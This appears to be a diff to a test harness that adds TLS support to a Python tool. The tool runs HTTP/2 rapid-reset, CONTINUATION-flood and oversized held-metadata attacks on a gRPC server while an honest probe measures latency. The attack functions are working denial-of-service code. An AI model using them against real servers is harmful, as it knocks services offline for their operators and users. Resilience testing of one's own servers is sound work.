@@ -13,7 +13,9 @@ each prints one JSON line of figures.
 """
 import argparse
 import json
+import select
 import socket
+import ssl
 import struct
 import threading
 import time
@@ -49,55 +51,81 @@ def split_target(target):
     return host, int(port)
 
 
-class RawConnection:
-    """One TCP connection speaking raw frames. A reader thread drains what the
-    server sends (a client that stops reading is a different attack), ACKs its
-    SETTINGS if asked to, and records GOAWAY and the close."""
+def tls_context(ca_file, cert_file=None, key_file=None):
+    """A client context offering only h2, as gRPC clients do."""
+    context = ssl.create_default_context(cafile=ca_file)
+    context.set_alpn_protocols(["h2"])
+    if cert_file:
+        context.load_cert_chain(cert_file, key_file)
+    return context
 
-    def __init__(self, target, ack_settings=True, connect_timeout=5.0):
-        self.sock = socket.create_connection(split_target(target), timeout=connect_timeout)
-        self.sock.settimeout(None)
-        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+
+def connect(target, tls=None, server_name="card-server", timeout=5.0):
+    """A TCP (or, with `tls`, an ssl.SSLContext, TLS) connection to target."""
+    sock = socket.create_connection(split_target(target), timeout=timeout)
+    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    if tls is not None:
+        sock = tls.wrap_socket(sock, server_hostname=server_name)
+    return sock
+
+
+class RawConnection:
+    """One connection speaking raw frames, from one thread (an SSL socket must
+    not be read and written at once). pump() drains what the server sent (a
+    client that stops reading is a different attack), ACKs its SETTINGS if
+    asked to, and records GOAWAY and the close."""
+
+    SEND_TIMEOUT_S = 10.0
+
+    def __init__(self, target, ack_settings=True, connect_timeout=5.0, tls=None):
+        self.sock = connect(target, tls, timeout=connect_timeout)
+        self.sock.settimeout(self.SEND_TIMEOUT_S)
         self.ack_settings = ack_settings
-        self.send_lock = threading.Lock()
         self.goaway = None  # (last_stream_id, error_code) of the first GOAWAY
         self.closed = threading.Event()
+        self.stalled = False  # a send waited SEND_TIMEOUT_S: the server stopped reading
         self.rst_received = 0
+        self.buffer = b""
         self.send(PREFACE + frame(SETTINGS, 0, 0))
-        self.reader = threading.Thread(target=self._read, daemon=True)
-        self.reader.start()
 
     def send(self, data):
-        """False once the server has closed the connection."""
+        """False once the connection is closed (or stalled)."""
         if self.closed.is_set():
             return False
         try:
-            with self.send_lock:
-                self.sock.sendall(data)
-            return True
+            self.sock.sendall(data)
+        except socket.timeout:
+            self.stalled = True
+            self.closed.set()
         except OSError:
             self.closed.set()
-            return False
+        self.pump()
+        return not self.closed.is_set()
 
-    def _read(self):
-        buffer = b""
-        try:
-            while True:
+    def pump(self):
+        """Reads and handles whatever has arrived, without waiting for more."""
+        while not self.closed.is_set():
+            pending = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
+            if not pending and not select.select([self.sock], [], [], 0)[0]:
+                return
+            try:
                 chunk = self.sock.recv(1 << 16)
-                if not chunk:
+            except (ssl.SSLWantReadError, BlockingIOError, socket.timeout):
+                return
+            except OSError:
+                chunk = b""
+            if not chunk:
+                self.closed.set()
+                return
+            self.buffer += chunk
+            while len(self.buffer) >= 9:
+                length = int.from_bytes(self.buffer[:3], "big")
+                if len(self.buffer) < 9 + length:
                     break
-                buffer += chunk
-                while len(buffer) >= 9:
-                    length = int.from_bytes(buffer[:3], "big")
-                    if len(buffer) < 9 + length:
-                        break
-                    kind, flags = buffer[3], buffer[4]
-                    payload = buffer[9:9 + length]
-                    buffer = buffer[9 + length:]
-                    self._on_frame(kind, flags, payload)
-        except OSError:
-            pass
-        self.closed.set()
+                kind, flags = self.buffer[3], self.buffer[4]
+                payload = self.buffer[9:9 + length]
+                self.buffer = self.buffer[9 + length:]
+                self._on_frame(kind, flags, payload)
 
     def _on_frame(self, kind, flags, payload):
         if kind == SETTINGS and not flags & ACK and self.ack_settings:
@@ -109,6 +137,13 @@ class RawConnection:
         elif kind == RST_STREAM:
             self.rst_received += 1
 
+    def wait(self, seconds):
+        """Keeps draining for `seconds` (or until the server closes)."""
+        deadline = time.monotonic() + seconds
+        while time.monotonic() < deadline and not self.closed.is_set():
+            select.select([self.sock], [], [], min(0.1, max(0.0, deadline - time.monotonic())))
+            self.pump()
+
     def close(self):
         try:
             self.sock.close()
@@ -117,7 +152,7 @@ class RawConnection:
 
 
 def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False,
-                ack_settings=True, reconnect=True, path=HEALTH_CHECK):
+                ack_settings=True, reconnect=True, path=HEALTH_CHECK, tls=None):
     """HEADERS (+DATA) then RST_STREAM(CANCEL), `rate` streams a second spread
     over `connections` connections, for `seconds`. A connection the server
     closes is replaced (a real attacker reconnects) unless reconnect is False."""
@@ -125,7 +160,7 @@ def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False
     per_connection = rate / connections
     tick = 0.01
     totals = {"streams_sent": 0, "connections_opened": 0, "goaways": 0,
-              "closed_by_server": 0, "connect_failures": 0}
+              "closed_by_server": 0, "stalled": 0, "connect_failures": 0}
     lock = threading.Lock()
     deadline = time.monotonic() + seconds
 
@@ -135,13 +170,13 @@ def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False
             if conn is None or conn.closed.is_set():
                 if conn is not None:
                     with lock:
-                        totals["closed_by_server"] += 1
+                        totals["stalled" if conn.stalled else "closed_by_server"] += 1
                         totals["goaways"] += conn.goaway is not None
                     conn.close()
                     if not reconnect:
                         return
                 try:
-                    conn = RawConnection(target, ack_settings)
+                    conn = RawConnection(target, ack_settings, tls=tls)
                 except OSError:
                     with lock:
                         totals["connect_failures"] += 1
@@ -164,7 +199,7 @@ def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False
             if batch and conn.send(b"".join(batch)):
                 with lock:
                     totals["streams_sent"] += len(batch) // (3 if with_data else 2)
-            time.sleep(tick)
+            conn.wait(tick)
         if conn is not None:
             with lock:
                 totals["goaways"] += conn.goaway is not None
@@ -178,7 +213,8 @@ def rapid_reset(target, connections=4, rate=25000, seconds=10.0, with_data=False
     return totals
 
 
-def continuation_flood(target, connections=4, seconds=10.0, chunk=16384, ack_settings=True):
+def continuation_flood(target, connections=4, seconds=10.0, chunk=16384, ack_settings=True,
+                       tls=None):
     """A HEADERS frame without END_HEADERS, then CONTINUATION frames of `chunk`
     bytes of one ever-growing header value, never ending the block."""
     totals = {"bytes_sent": 0, "goaways": 0, "closed_by_server": 0}
@@ -186,7 +222,7 @@ def continuation_flood(target, connections=4, seconds=10.0, chunk=16384, ack_set
     deadline = time.monotonic() + seconds
 
     def one_worker():
-        conn = RawConnection(target, ack_settings)
+        conn = RawConnection(target, ack_settings, tls=tls)
         # A literal never-indexed field with a new name whose value length says
         # 1 GiB: the server must buffer or refuse; it can never complete.
         first = header_block(HEALTH_CHECK, target) + b"\x10\x01x" + b"\x7f" + _varint(2**30 - 127)
@@ -195,7 +231,7 @@ def continuation_flood(target, connections=4, seconds=10.0, chunk=16384, ack_set
         while time.monotonic() < deadline and conn.send(filler):
             with lock:
                 totals["bytes_sent"] += len(filler)
-        time.sleep(max(0.0, deadline - time.monotonic()))
+        conn.wait(deadline - time.monotonic())
         with lock:
             totals["closed_by_server"] += conn.closed.is_set()
             totals["goaways"] += conn.goaway is not None
@@ -220,12 +256,12 @@ def _varint(value):
 
 
 def held_metadata(target, streams=300, value_bytes=1 << 20, hold_seconds=5.0,
-                  ack_settings=True):
+                  ack_settings=True, tls=None):
     """`streams` streams on one connection, each with one `value_bytes` header
     (split in 16 KiB CONTINUATIONs) and no END_STREAM, held open. Returns how
     many streams the server refused or the connection survived."""
-    conn = RawConnection(target, ack_settings)
-    time.sleep(0.2)  # let the SETTINGS exchange finish: the worst case is after it
+    conn = RawConnection(target, ack_settings, tls=tls)
+    conn.wait(0.2)  # let the SETTINGS exchange finish: the worst case is after it
     value = b"v" * value_bytes
     block = header_block(HEALTH_CHECK, target) + b"\x10\x01x" + b"\x7f" + _varint(value_bytes - 127) + value
     sent = 0
@@ -239,7 +275,7 @@ def held_metadata(target, streams=300, value_bytes=1 << 20, hold_seconds=5.0,
         if not conn.send(b"".join(frames)):
             break
         sent += 1
-    time.sleep(hold_seconds)
+    conn.wait(hold_seconds)
     result = {"streams_sent": sent, "rst_received": conn.rst_received,
               "closed_by_server": conn.closed.is_set(), "goaway": conn.goaway is not None}
     conn.close()
@@ -249,12 +285,15 @@ def held_metadata(target, streams=300, value_bytes=1 << 20, hold_seconds=5.0,
 class GrpcProbe:
     """An honest gRPC client on python3-h2: one connection, health checks."""
 
-    def __init__(self, target, timeout=5.0):
+    def __init__(self, target, timeout=5.0, tls=None):
         self.target = target
-        self.sock = socket.create_connection(split_target(target), timeout=timeout)
-        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        self.sock = connect(target, tls, timeout=timeout)
         self.sock.settimeout(timeout)
         self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
+        # python3-hpack's Huffman coder takes minutes on a 1 MiB value; the
+        # header sizes under test are the decoded ones anyway.
+        plain_encode = self.h2.encoder.encode
+        self.h2.encoder.encode = lambda headers, huffman=True: plain_encode(headers, False)
         self.h2.initiate_connection()
         self.sock.sendall(self.h2.data_to_send())
 
@@ -299,7 +338,7 @@ def percentile(sorted_values, q):
     return sorted_values[min(len(sorted_values) - 1, int(q * len(sorted_values)))]
 
 
-def probe(target, seconds=10.0, rate=50.0, new_connection_every=0.25, timeout=2.0):
+def probe(target, seconds=10.0, rate=50.0, new_connection_every=0.25, timeout=2.0, tls=None):
     """Two honest callers for `seconds`: one connection opened up front calling
     at `rate`/s, and a new connection every `new_connection_every` s making one
     call. Latencies in ms; a failure is any answer but OK or no answer within
@@ -315,7 +354,7 @@ def probe(target, seconds=10.0, rate=50.0, new_connection_every=0.25, timeout=2.
             start = time.monotonic()
             try:
                 if conn is None:
-                    conn = GrpcProbe(target, timeout)
+                    conn = GrpcProbe(target, timeout, tls)
                 ok = conn.check() == 0
             except (OSError, h2.exceptions.H2Error):
                 ok = False
@@ -336,7 +375,7 @@ def probe(target, seconds=10.0, rate=50.0, new_connection_every=0.25, timeout=2.
         while time.monotonic() < deadline:
             start = time.monotonic()
             try:
-                conn = GrpcProbe(target, timeout)
+                conn = GrpcProbe(target, timeout, tls)
                 try:
                     ok = conn.check() == 0
                 finally:
@@ -378,17 +417,25 @@ def main():
     parser.add_argument("--streams", type=int, default=300)
     parser.add_argument("--value_bytes", type=int, default=1 << 20)
     parser.add_argument("--path", default=HEALTH_CHECK, help="the method rapid-reset calls")
+    parser.add_argument("--tls_ca_file", help="TLS (ALPN h2) against these roots")
+    parser.add_argument("--tls_cert_file", help="client certificate (with --tls_key_file)")
+    parser.add_argument("--tls_key_file")
     args = parser.parse_args()
     ack = not args.no_settings_ack
+    tls = (tls_context(args.tls_ca_file, args.tls_cert_file, args.tls_key_file)
+           if args.tls_ca_file else None)
     if args.mode == "rapid-reset":
         result = rapid_reset(args.target, args.connections, args.rate, args.seconds,
-                             args.with_data, ack, path=args.path)
+                             args.with_data, ack, path=args.path, tls=tls)
     elif args.mode == "continuation":
-        result = continuation_flood(args.target, args.connections, args.seconds, ack_settings=ack)
+        result = continuation_flood(args.target, args.connections, args.seconds,
+                                    ack_settings=ack, tls=tls)
     elif args.mode == "held-metadata":
-        result = held_metadata(args.target, args.streams, args.value_bytes, args.seconds, ack)
+        result = held_metadata(args.target, args.streams, args.value_bytes, args.seconds, ack,
+                               tls=tls)
     else:
-        result = probe(args.target, args.seconds, rate=args.rate if args.rate < 1000 else 50.0)
+        result = probe(args.target, args.seconds, rate=args.rate if args.rate < 1000 else 50.0,
+                       tls=tls)
     print(json.dumps(result), flush=True)
 
 
